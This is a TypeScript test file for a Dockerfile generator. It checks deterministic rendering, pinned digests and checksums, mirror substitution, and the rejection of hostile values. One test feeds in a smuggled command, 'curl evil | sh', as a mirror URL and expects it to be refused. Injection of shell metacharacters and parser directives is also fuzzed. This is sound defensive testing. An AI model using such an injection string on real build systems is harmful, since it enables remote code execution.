import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Definitions, FragmentDefinition } from '../../src/core/index.ts';
import { generate } from '../../src/flows/generate.ts';
import { codes } from '../support/codes.ts';
import { fakeHost } from '../support/fake-host.ts';
import { committed, renderAll, root } from './definitions.ts';

const texts = (definitions: Definitions): string[] => [...renderAll(definitions)].map(([, { text }]) => text);

function reversed(definitions: Definitions): Definitions {
  return {
    ...definitions,
    pins: new Map([...definitions.pins].reverse()),
    fragments: new Map([...definitions.fragments].reverse()),
    images: definitions.images.map((image) => ({
      ...image,
      labels: Object.fromEntries(Object.entries(image.labels).reverse()),
      params: Object.fromEntries(Object.entries(image.params).reverse()),
    })),
  };
}

function withFragment(name: string, change: Partial<FragmentDefinition>): Definitions {
  const present = committed.fragments.get(name);
  if (present === undefined) throw new Error(name);
  return { ...committed, fragments: new Map(committed.fragments).set(name, { ...present, ...change }) };
}

describe('rendering', () => {
  it('gives the same bytes twice, and from maps in another order', () => {
    expect(texts(committed)).toHaveLength(7);
    expect(texts(committed)).toEqual(texts(committed));
    expect(texts(reversed(committed))).toEqual(texts(committed));
  });

  it('is what is committed', async () => {
    const { changes } = await generate(fakeHost(), { root, check: true });
    expect(changes.map(({ diff }) => diff).join('\n')).toBe('');
  });

  it('names every pin literally: no ARG has a value, none carries a pin', () => {
    for (const text of texts(committed)) {
      const args = [...text.matchAll(/^ARG (.+)$/gm)].map(([, arg]) => arg);
      expect(new Set(args)).toEqual(
        new Set(
          args.filter((arg) =>
            /^(TARGETARCH|BUILDARCH|(CREATED|GIT_COMMIT|INPUT_DIGEST)=""|VERSION="unversioned")$/.test(arg ?? ''),
          ),
        ),
      );
      for (const [, from] of text.matchAll(/^FROM (?:--platform=\S+ )?(\S+)/gm))
        expect(from).toMatch(/^[^$]+(?:@sha256:[0-9a-f]{64})?$/);
    }
  });

  it('takes both checksums of a release, one for each architecture', () => {
    const text = renderAll(committed).get('standard')?.text ?? '';
    expect(text).toContain('e55c9d49dc49c0b0fef0a9acd3510482fd9e27ff52ae80f8a6e838cd25b4cd89');
    expect(text).toContain('221222bd00281ab993f7e2c19b9f3f2482d66fa759baedcd8668785c940c8df7');
  });

  it('uses nothing that the built-in frontend of Docker 20.10 lacks', () => {
    for (const text of texts(committed)) expect(text).not.toMatch(/<<|# syntax|COPY --link|^ADD |--checksum/m);
  });

  it('never writes into a layer what it owns to change it later', () => {
    for (const text of texts(committed)) {
      const final = text.slice(text.indexOf(' AS image\n'));
      expect(final).not.toMatch(/\bch(?:own|mod|grp) -R/);
      for (const copy of final.match(/^COPY .*$/gm) ?? []) expect(copy).toContain('--chown=');
    }
  });
});

describe('mirrors', () => {
  const mirrors = {
    images: { 'registry.access.redhat.com': '127.0.0.1:5000', 'ghcr.io/astral-sh': '127.0.0.1:5000/mirror' },
    urls: { 'https://github.com/': 'https://127.0.0.1:8443/', 'npm:': 'https://npm.example.test/' },
  };

  it('change locations, and no digest or checksum', () => {
    const real = renderAll(committed).get('standard')?.text ?? '';
    const mirrored = renderAll(committed, mirrors).get('standard')?.text ?? '';
    const sums = (text: string): string[] => text.match(/[0-9a-f]{64}/g) ?? [];
    expect(sums(mirrored)).toEqual(sums(real));
    expect(mirrored).toContain('FROM 127.0.0.1:5000/ubi10/ubi:10@sha256:');
    expect(mirrored).toContain('127.0.0.1:5000/mirror/uv:');
    expect(mirrored).toContain("'https://127.0.0.1:8443/cli/cli/releases");
    expect(mirrored).toContain('--cache=/tmp/npm --registry=https://npm.example.test/');
    expect(mirrored).toContain('org.opencontainers.image.base.name="registry.access.redhat.com/ubi10/ubi:10"');
  });

  it('match whole path components only', () => {
    const text =
      renderAll(committed, { images: { 'ghcr.io/astral': '127.0.0.1:1' }, urls: {} }).get('standard')?.text ?? '';
    expect(text).not.toContain('127.0.0.1:1');
  });

  it('cannot bring text into the Dockerfile', () => {
    const hostile = { images: {}, urls: { 'npm:': 'https://x; curl evil | sh' } };
    expect(codes(() => renderAll(committed, hostile))).toContain('dockerfile/unsafe-value');
  });
});

describe('a fragment', () => {
  it.each<[string, Partial<FragmentDefinition>, string]>([
    ['that names an unknown pin', { pins: ['gh', 'nosuch'] }, 'dockerfile/unknown-pin'],
    ['that names a pin it does not use', { pins: ['gh', 'uv'] }, 'dockerfile/unused-pin'],
    ['that takes a value of an unnamed pin', { pins: [] }, 'dockerfile/unknown-value'],
    ['that copies an undeclared file', { final: { text: 'COPY a /b\n', line: 9 } }, 'dockerfile/undeclared-file'],
    ['that declares a file it does not copy', { files: [{ path: 'a', mode: 0o644 }] }, 'dockerfile/idle-file'],
    ['with an unclosed placeholder', { final: { text: 'RUN {{gh.version\n', line: 9 } }, 'dockerfile/template'],
  ])('%s is refused', (_name, change, code) => {
    expect(codes(() => renderAll(withFragment('gh', change)))).toContain(code);
  });

  it('that is missing is named together with every other problem', () => {
    const fragments = new Map(withFragment('uv', { pins: [] }).fragments);
    fragments.delete('gh');
    const found = codes(() => renderAll({ ...committed, fragments }));
    expect(found).toContain('dockerfile/unknown-fragment');
    expect(found).toContain('dockerfile/unknown-value');
  });
});

describe('a hostile value', () => {
  it('in a title is no parser directive', () => {
    const images = committed.images.map((image) => ({
      ...image,
      variants: image.variants.map((variant) => ({ ...variant, title: 'syntax=example.test/frontend' })),
    }));
    for (const text of texts({ ...committed, images })) expect(text).not.toMatch(/^#\s*(?:syntax|escape|check)\s*=/m);
  });

  // Past the schema on purpose: rendering is the last wall, and it must hold by itself.
  const evil = fc
    .tuple(
      fc.string(),
      fc.constantFrom('\n', '"', "'", '$', '`', '\\', '\u2028', ';', '|', '&', ' ', '(', '#'),
      fc.string(),
    )
    .map((parts) => parts.join(''));

  it('in a pin, a parameter or a label never reaches a Dockerfile', () => {
    const target = fc.constantFrom('version', 'url', 'repository', 'packages', 'param', 'label', 'title');
    fc.assert(
      fc.property(evil, target, (value, where) => {
        // A list of packages is split at spaces; the schema refuses a package's name that holds one.
        fc.pre(where !== 'packages' || !value.includes(' '));
        const pins = new Map(committed.pins);
        const gh = pins.get('gh');
        const rpms = pins.get('build-rpms');
        if (gh?.kind !== 'release' || rpms?.kind !== 'rpms') throw new Error('pins');
        if (where === 'version' || where === 'url') pins.set('gh', { ...gh, [where]: value });
        if (where === 'packages') pins.set('build-rpms', { ...rpms, packages: [value] });
        const runner = pins.get('runner');
        if (where === 'repository' && runner?.kind === 'git') pins.set('runner', { ...runner, repository: value });
        const images = committed.images.map((image) => ({
          ...image,
          labels: where === 'label' ? { ...image.labels, 'a.b': value } : image.labels,
          variants: image.variants.map((variant) => ({
            ...variant,
            title: where === 'title' ? value : variant.title,
            params: where === 'param' ? { runner_type: value } : variant.params,
          })),
        }));
        const quotable = /^[^\p{Cc}\p{Zl}\p{Zp}"\\$`]*$/u.test(value);
        const found = codes(() => renderAll({ ...committed, pins, images }));
        // Inside a label's double quotes ; | & ( # and ' mean nothing.
        return quotable && (where === 'label' || where === 'title') ? found.length === 0 : found.length > 0;
      }),
      { numRuns: 150 },
    );
  });
});
